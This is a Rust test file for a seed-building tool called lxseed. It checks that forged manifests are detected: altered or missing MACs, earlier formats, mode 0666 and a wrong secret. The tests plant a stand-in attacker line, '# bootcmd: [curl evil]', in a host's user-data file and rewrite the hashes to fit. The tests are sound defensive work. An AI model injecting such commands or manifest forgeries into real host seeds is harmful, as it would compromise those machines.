//! Who wrote to `out/` once, a cache or another user, and made the manifest fit what he put there.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use serde_json::Value;

use crate::incremental::{former, rewrite_sums, sha256};
use crate::support::{Entry, Run, Site, assert_same_tree, lxseed, tree};

const VICTIM: &str = "lab/node1/user-data";

/// How the manifest is made to fit.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Forgery {
    /// The authentication code stays as it was.
    OldMac,
    /// It is left out.
    NoMac,
    /// So is the number of the first format that has one.
    EarlierFormat,
    /// The same, and the mode of the victim, 0666, is what the manifest says.
    OpenToAll,
    /// It is said to be of another secret.
    OtherSecret,
}

const FORGERIES: [Forgery; 5] = [
    Forgery::OldMac,
    Forgery::NoMac,
    Forgery::EarlierFormat,
    Forgery::OpenToAll,
    Forgery::OtherSecret,
];

/// Puts a command of the attacker into a host's seed.
fn forge(out: &Path, forgery: Forgery) {
    let victim = out.join(VICTIM);
    let mut text = fs::read_to_string(&victim).unwrap();
    text += "# bootcmd: [curl evil]\n";
    fs::write(&victim, &text).unwrap();
    let path = out.join("manifest.json");
    let mut manifest: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    for file in manifest["files"].as_array_mut().unwrap() {
        if file["path"] == VICTIM {
            file["sha256"] = sha256(text.as_bytes()).into();
            file["size"] = text.len().into();
            if forgery == Forgery::OpenToAll {
                fs::set_permissions(&victim, fs::Permissions::from_mode(0o666)).unwrap();
                file["mode"] = "0666".into();
            }
        }
    }
    match forgery {
        Forgery::OldMac => {}
        Forgery::NoMac => drop(manifest.as_object_mut().unwrap().shift_remove("mac")),
        Forgery::EarlierFormat => {
            // Digests of clusters and program are right, as if the formats before had had them.
            manifest["format"] = 4.into();
            manifest.as_object_mut().unwrap().shift_remove("mac");
        }
        Forgery::OpenToAll => manifest = serde_json::from_str(&former(&manifest.to_string())).unwrap(),
        Forgery::OtherSecret => manifest["secret"] = "0123456789abcdef".into(),
    }
    fs::write(&path, format!("{manifest:#}\n")).unwrap();
    rewrite_sums(out);
}

struct Desk {
    site: Site,
    good: Vec<Entry>,
}

impl Desk {
    fn new() -> Self {
        let site = Site::copy_of("profiles");
        site.build().expect_exit(0);
        let good = tree(&site.out());
        Self { site, good }
    }

    fn run(&self, args: &[&str]) -> Run {
        lxseed(args).dir(self.site.parent()).run()
    }

    fn without_secret(&self, args: &[&str]) -> Run {
        lxseed(args).dir(self.site.parent()).without_secret().run()
    }
}

const NOT_OURS: &str = "manifest.json was not written by a build with this secret";
const UNPROVEN: &str = "manifest.json is of an earlier lxseed and does not show who wrote it";

#[test]
fn every_verb_finds_an_altered_file_behind_a_manifest_that_fits() {
    let desk = Desk::new();
    for forgery in FORGERIES {
        forge(&desk.site.out(), forgery);
        let words = match forgery {
            Forgery::EarlierFormat | Forgery::OpenToAll => UNPROVEN,
            _ => NOT_OURS,
        };
        let said = |run: &Run, words: &str| {
            let text = run.stdout.clone() + &run.stderr;
            assert!(text.contains(words), "{forgery:?}: {words}\n{run}");
        };
        let check = desk.run(&["build", "site", "--check"]).expect_exit(3);
        said(&check, &format!("{VICTIM} would change"));
        let diff = desk.run(&["diff", "site"]).expect_exit(3);
        said(&diff, &format!("--- out/{VICTIM}"));
        if matches!(forgery, Forgery::OldMac | Forgery::NoMac) {
            said(&check, NOT_OURS);
            said(&diff, NOT_OURS);
        }
        said(&desk.run(&["inspect", "out"]).expect_exit(1), words);
        said(
            &desk.run(&["image", "out/lab/node1", "-o", "node1.iso"]).expect_exit(1),
            words,
        );
        assert!(!desk.site.parent().join("node1.iso").exists());
        // What is left out cannot be kept; otherwise the next manifest would vouch for it.
        said(
            &desk.run(&["build", "site", "--only", "lab/node2"]).expect_exit(1),
            words,
        );
        let build = desk.run(&["build", "site"]).expect_exit(0);
        if matches!(forgery, Forgery::OldMac | Forgery::NoMac) {
            said(&build, NOT_OURS);
        }
        assert_same_tree(&desk.good, &tree(&desk.site.out()));
        assert_eq!(desk.run(&["build", "site"]).expect_exit(0).stderr, "");
        desk.run(&["build", "site", "--check"]).expect_exit(0);
    }
}

/// One cause is one finding: a manifest that only lost its authentication code says that and nothing else.
#[test]
fn one_forgery_is_one_finding() {
    let desk = Desk::new();
    let path = desk.site.out().join("manifest.json");
    let text = fs::read_to_string(&path).unwrap();
    let mac = text.lines().find(|line| line.contains("\"mac\"")).unwrap();
    fs::write(&path, text.replace(mac, &mac.replace(['0', '1', '2', '3'], "4"))).unwrap();
    rewrite_sums(&desk.site.out());
    desk.run(&["build", "site", "--check"])
        .expect_exit(3)
        .expect_stdout(&format!(
            "{NOT_OURS}\nout is out of date: only its manifest.json and SHA256SUMS would be written anew\n"
        ));
    desk.run(&["diff", "site"])
        .expect_exit(3)
        .expect_stdout(&format!("out/{NOT_OURS}\n"));
    let build = desk.run(&["build", "site"]).expect_exit(0);
    assert_eq!(build.stderr, format!("note: out/{NOT_OURS}; every file is made anew\n"));
    assert_same_tree(&desk.good, &tree(&desk.site.out()));
}

#[test]
fn without_the_secret_it_is_said_what_was_not_checked() {
    let desk = Desk::new();
    let inspect = desk.without_secret(&["inspect", "out"]).expect_exit(0);
    assert!(
        inspect.stdout.ends_with("every file is as manifest.json has it\n"),
        "{inspect}"
    );
    assert!(
        inspect.stderr.contains("it was not checked who wrote manifest.json"),
        "{inspect}"
    );
    let image = desk
        .without_secret(&["image", "out/lab/node1", "-o", "node1.iso"])
        .expect_exit(0);
    assert!(image.stderr.contains("it was not checked who wrote "), "{image}");
    // The file beside the tree is found as it is beside the profiles.
    let site = Site::copy_of("profiles/lab");
    let run = |args: &[&str]| lxseed(args).dir(site.parent()).without_secret().run();
    run(&["build", "site"]).expect_exit(0);
    let inspect = run(&["inspect", "out"]).expect_exit(0);
    assert!(inspect.stdout.ends_with("every file is as it was built\n"), "{inspect}");
    assert_eq!(inspect.stderr, "");
    assert_eq!(
        run(&["image", "out/lab/node1", "-o", "node1.iso"])
            .expect_exit(0)
            .stderr,
        ""
    );
    run(&["secret", "new", "--secret-file", "other"]).expect_exit(0);
    let inspect = run(&["inspect", "out", "--secret-file", "other"]).expect_exit(1);
    assert!(inspect.stderr.contains(NOT_OURS), "{inspect}");
    // A secret that nobody asked for and that is of no use stops nothing.
    fs::set_permissions(site.parent().join("lxseed.secret"), fs::Permissions::from_mode(0o644)).unwrap();
    let inspect = run(&["inspect", "out"]).expect_exit(0);
    assert!(
        inspect.stderr.contains("is open to other users") && inspect.stderr.contains("not checked"),
        "{inspect}"
    );
    run(&["inspect", "node1.iso", "--secret-file", "other"]).expect_exit(2);
}
